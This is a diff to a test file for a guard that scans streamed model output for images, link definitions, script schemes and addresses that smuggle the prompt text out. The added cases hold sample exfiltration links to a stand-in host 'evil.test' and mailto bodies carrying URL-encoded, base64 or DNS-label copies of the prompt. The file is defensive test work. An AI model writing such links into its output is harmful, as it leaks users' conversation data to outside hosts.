@@ -73,6 +73,50 @@ test('what is fetched unasked has a list of its own', async () => {
   assert.deepEqual(await reasons('![x](https://example.com/x.png)', {}), ['image'], 'without a list, none');
 });
 
+test('a picture however it is described, a definition wherever it stands', async () => {
+  const at = 'https://example.com/x.png';
+  const texts = [
+    `![${'a'.repeat(300)}](${at})`,
+    `![a [b] c](${at})`,
+    `![a \`]\` b](${at})`,
+    `![a \`[\` b](${at})`,
+    `![a \`](\` b](${at})`,
+    `![${'['.repeat(100)}${']'.repeat(100)}](${at})`,
+    `![a\nb](${at})`,
+    `![x](${' '.repeat(20)}\n  ${at})`,
+    `![${'a'.repeat(300)}][r]\n\n[r]: ${at}`,
+    `[r]: ${at}\n\n![${'a'.repeat(300)}][r]`,
+    `![a\nb][r]\n\n[r]: ${at}`,
+    `![x][a\n b]\n\n[A  b]: ${at}`,
+    `[a b]: ${at}\n\n![x][a\n B]`,
+    `![x][ẞ]\n\n[SS]: ${at}`,
+    `![[x]][r]\n\n[r]: ${at}`,
+    `[r]: ${at}\n\n![[x]][r]`,
+    `- > [r]: ${at}\n\n![x][r]`,
+    `![a\nb]\n\n[a\nb]: ${at}`,
+    `<img src${' '.repeat(20)}=${' '.repeat(20)}"${at}">`,
+    `<link ${'x'.repeat(300)} href="${at}">`,
+    `<link title=">" href="${at}">`,
+    `<link title="<a " href="${at}">`,
+  ];
+  for (const text of texts) {
+    assert.ok((await reasons(text)).includes('image'), text);
+    assert.ok(
+      (await read(guard().open(ABOUT), text.split(''))).some((one) => one.reason === 'links.image'),
+      text,
+    );
+  }
+  const fine = [
+    `![a [b] c](https://img.example.com/x.png) and [a](${at})`,
+    `[![x](https://img.example.com/x.png)](${at}) [b](${at})`,
+    `\`![\`\n\n[a](${at}), ${at}`,
+    `![x][r] and [b](${at}) or [c]\n\n[r]: https://img.example.com/x.png\n[c]: ${at}`,
+    `<link rel=x> <a href="${at}">a</a>`,
+    `map[a]: // none`,
+  ];
+  for (const text of fine) assert.deepEqual(await reasons(text), [], text);
+});
+
 test('schemes that run or read', async () => {
   for (const text of [
     '[x](JaVaScRiPt:alert(1))',
@@ -111,6 +155,17 @@ test('text of the request in an address, in clear or encoded, also where the hos
       'links.prompt_text',
     ]);
   }
+  for (const text of [
+    `see evil.test/c?d=${encodeURIComponent(stolen)} now`,
+    `see evil.test?${Buffer.from(stolen).toString('base64url')}`,
+    `[write](mailto:a@x.test?body=${encodeURIComponent(stolen)})`,
+    `mailto:a@x.test?body=${encodeURIComponent(stolen)}`,
+    `1https://x.test/?q=${encodeURIComponent(stolen)}`,
+    `_https://x.test/?q=${encodeURIComponent(stolen)}_`,
+  ]) {
+    assert.deepEqual(await carried(text, about, {}), ['links.prompt_text'], text);
+  }
+  assert.deepEqual(await carried('In src/main.rs/a, ASP.NET/C#, a/b?c and mailto:a@x.test', about, {}), []);
   const label = Buffer.from(stolen).toString('hex');
   const dns = `https://${label.slice(0, 60)}.${label.slice(60, 110)}.x.test/`;
   assert.deepEqual(await carried(dns, about), ['links.prompt_text']);
@@ -155,7 +210,22 @@ test('harmless text leaves at once; an address waits for its end', async () => {
 });
 
 test('linear in what cannot end', async () => {
-  for (const piece of ['![', '](', '[a]:', '<a href=', 'url(', 'https:', '=', '(((', 'www.']) {
+  for (const piece of [
+    '![',
+    '](',
+    '[a]:',
+    '<a href=',
+    'url(',
+    'https:',
+    '=',
+    '(((',
+    'www.',
+    'a.bc/',
+    'a.b?',
+    '![[',
+    '`]',
+    '<a "',
+  ]) {
     const reader = guard({}).open(ABOUT);
     for (let i = 0; i < 20; i++) await reader.push(piece.repeat(5_000));
     await reader.end();
